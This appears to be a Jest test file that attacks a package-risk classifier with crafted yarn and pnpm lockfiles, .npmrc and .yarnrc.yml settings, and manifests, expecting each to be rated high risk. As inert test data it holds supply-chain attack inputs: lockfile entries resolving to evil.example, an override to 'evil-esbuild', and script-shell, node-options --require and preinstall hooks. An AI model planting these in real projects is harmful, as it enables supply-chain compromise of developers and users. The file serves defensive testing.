// Attacker pass 9j (test-only) on the risk classifier's package rules (src/core/risk/): lockfiles
// of yarn and pnpm (yarn-lockfile-risks.ts, pnpm-lockfile-risks.ts), files the install or build
// executes by their path (build-executed-file-risks.ts), package manager settings
// (package-manager-config-risks.ts) and the manifest (package-manifest-risks.ts). Attacked: how
// yarn v1 reads a lockfile field (`resolved: "…"` with a colon, which yarn's own parser takes:
// yarn src/lockfile/parse.js `wasColon`), a new yarn v1 entry without `resolved`, a yarn 2+
// lockfile whose `__metadata` key is quoted (valid YAML, the same key to yarn), a pnpm lockfile
// claiming an older version (which pnpm 9 converts, deciding builds itself), yarn's own executed
// files (`.yarn/releases`, `.yarn/cache`, `.pnp.data.json`), a local GitHub action, file names in
// another case, and the npm settings and manifest fields the brief lists.
// The FAULT cases now pass (read-yarn-classic-lockfile.ts, yarn-lockfile-risks.ts readYarnLockfile,
// pnpm-lockfile-risks.ts installScriptRisks, build-executed-file-risks.ts, case-folded-path.ts);
// package-kinds-9j.test.ts has more of each kind.
import { describe, expect, it } from '@jest/globals';
import {
  LEFT_PAD,
  LEFT_PAD_PNPM,
  PNPM,
  pnpmLockfile,
  riskOfFiles as riskOf,
  SERVICE,
  YARN,
  yarnBerry,
  yarnV1,
} from './fixtures/package-files.js';

describe('attacker 9j: yarn.lock', () => {
  it('control: a new yarn v1 entry with its registry tarball is a reason (install scripts)', () => {
    const added = `evil@^1.0.0:\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/evil/-/evil-1.0.0.tgz"\n`;
    expect(riskOf({ [YARN]: yarnV1(LEFT_PAD, added) }, { [YARN]: yarnV1(LEFT_PAD) }).level).toBe('high');
  });

  it("control: `resolved` to another host written yarn's usual way is a reason", () => {
    const added = `evil@^1.0.0:\n  version "1.0.0"\n  resolved "https://evil.example/evil.tgz"\n`;
    expect(riskOf({ [YARN]: yarnV1(LEFT_PAD, added) }, { [YARN]: yarnV1(LEFT_PAD) }).level).toBe('high');
  });

  it('FAULT: `resolved: "<another host>"` (a colon, which yarn v1 reads the same) is not low', () => {
    const added = `evil@^1.0.0:\n  version "1.0.0"\n  resolved: "https://evil.example/evil.tgz"\n`;
    expect(riskOf({ [YARN]: yarnV1(LEFT_PAD, added) }, { [YARN]: yarnV1(LEFT_PAD) }).level).toBe('high');
  });

  it('FAULT: a new yarn v1 entry without `resolved` (fetched from the registry by version) counts as a new package', () => {
    const added = `evil@^1.0.0:\n  version "1.0.0"\n`;
    expect(riskOf({ [YARN]: yarnV1(LEFT_PAD, added) }, { [YARN]: yarnV1(LEFT_PAD) }).level).toBe('high');
  });

  const berry = (metadataKey: string) =>
    [
      `${metadataKey}:`,
      '  version: 8',
      '',
      '"left-pad@npm:^1.3.0":',
      '  version: 1.3.0',
      '  resolution: "left-pad@https://evil.example/left-pad.tgz"',
      '',
    ].join('\n');
  const BERRY_BASE = yarnBerry(
    '"left-pad@npm:^1.3.0":\n  version: 1.3.0\n  resolution: "left-pad@npm:1.3.0"\n',
  );

  it('control: a yarn 2+ resolution to another host is a reason', () => {
    expect(riskOf({ [YARN]: berry('__metadata') }, { [YARN]: BERRY_BASE }).level).toBe('high');
  });

  it.each([['"__metadata"'], ["'__metadata'"], ['__metadata ']])(
    'FAULT: a yarn 2+ lockfile whose metadata key is written %s (the same YAML key) is still judged',
    (key) => {
      expect(riskOf({ [YARN]: berry(key) }, { [YARN]: BERRY_BASE }).level).toBe('high');
    },
  );
});

describe('attacker 9j: pnpm-lock.yaml', () => {
  const lock = (version: string, ...packages: string[]) =>
    pnpmLockfile(['', ...packages].join('\n'), { version });
  const EVIL_PNPM = '  evil@1.0.0:\n    resolution: {integrity: sha512-y}\n';

  it('control: a version 9 lockfile adding a package is a reason (install scripts)', () => {
    expect(
      riskOf({ [PNPM]: lock('9.0', LEFT_PAD_PNPM, EVIL_PNPM) }, { [PNPM]: lock('9.0', LEFT_PAD_PNPM) }).level,
    ).toBe('high');
  });

  it('FAULT: a lockfile claiming version 6 adds a package without `requiresBuild`, and pnpm 9 (which converts it and decides builds itself) runs its scripts', () => {
    expect(
      riskOf({ [PNPM]: lock('6.0', LEFT_PAD_PNPM, EVIL_PNPM) }, { [PNPM]: lock('9.0', LEFT_PAD_PNPM) }).level,
    ).toBe('high');
  });
});

describe('attacker 9j: files executed by their path', () => {
  it.each([
    ['a committed esbuild under node_modules/.bin', `${SERVICE}/node_modules/.bin/esbuild`],
    ['node_modules in another case', `${SERVICE}/Node_Modules/.bin/esbuild`],
    ['a binding.gyp', `${SERVICE}/binding.gyp`],
    ["yarn's Plug'n'Play loader", `${SERVICE}/.pnp.cjs`],
    ['an .npmrc with script-shell', `${SERVICE}/.npmrc`],
    ['a .yarnrc.yml with yarnPath', `${SERVICE}/.yarnrc.yml`],
    ['a .pnpmfile.cjs', `${SERVICE}/.pnpmfile.cjs`],
    ['an .npmrc at the repository root', '.npmrc'],
  ])('%s is refused', (_name, path) => {
    const content = path.endsWith('.npmrc')
      ? 'script-shell=./x.sh\nnode-options=--require ./x.js\n'
      : path.endsWith('.yml')
        ? 'yarnPath: ./x.cjs\n'
        : 'module.exports = 1;\n';
    expect(riskOf({ [path]: content }).level).toBe('high');
  });

  it.each([
    [
      'a workspace manifest with preinstall',
      `${SERVICE}/packages/a/package.json`,
      { scripts: { preinstall: 'node x.js' } },
    ],
    [
      'a build running a config file',
      `${SERVICE}/package.json`,
      { scripts: { build: 'node esbuild.config.mjs' } },
    ],
    [
      'a build with an esbuild plugin by node -r',
      `${SERVICE}/package.json`,
      { scripts: { build: 'node -r ./p.cjs node_modules/.bin/esbuild src/a.ts' } },
    ],
    [
      'an override to another package',
      `${SERVICE}/package.json`,
      { overrides: { esbuild: 'npm:evil-esbuild@1.0.0' } },
    ],
  ])('%s is refused', (_name, path, manifest) => {
    expect(riskOf({ [path]: JSON.stringify({ name: 'a', version: '1.0.0', ...manifest }) }).level).toBe(
      'high',
    );
  });

  it.each([
    // yarn runs the release `yarnPath` names (a reviewed .yarnrc.yml) as itself, and loads `plugins`.
    ["yarn's release named by the reviewed .yarnrc.yml", `${SERVICE}/.yarn/releases/yarn-4.5.0.cjs`],
    ['a yarn plugin named by the reviewed .yarnrc.yml', `${SERVICE}/.yarn/plugins/@yarnpkg/plugin-x.cjs`],
    // Zero-install: yarn loads packages from their cached zip, as npm from node_modules.
    ["a package in yarn's offline cache", `${SERVICE}/.yarn/cache/esbuild-npm-0.24.0-abc.zip`],
    // The Plug'n'Play data `.pnp.cjs` reads (pnpEnableInlining: false) maps every package to a folder.
    ["yarn's Plug'n'Play data", `${SERVICE}/.pnp.data.json`],
  ])('FAULT: %s, executed by its path, is not low', (_name, path) => {
    expect(riskOf({ [path]: '{"x": 1}' }).level).toBe('high');
  });

  it.each([
    // build-executed-file-risks judges paths case-insensitively "so a checkout on a case-insensitive
    // disk is judged too"; npm on such a disk opens `.npmrc` and reads `.NPMRC`.
    ['an .NPMRC', `${SERVICE}/.NPMRC`, 'script-shell=./x.sh\n'],
    ['a Package.json with a preinstall', `${SERVICE}/Package.json`, '{"scripts":{"preinstall":"node x.js"}}'],
    ['a .PNPMFILE.CJS', `${SERVICE}/.PNPMFILE.CJS`, 'module.exports = {}'],
  ])('FAULT: %s (another case, read on a case-insensitive disk) is not low', (_name, path, content) => {
    expect(riskOf({ [path]: content }).level).toBe('high');
  });
});
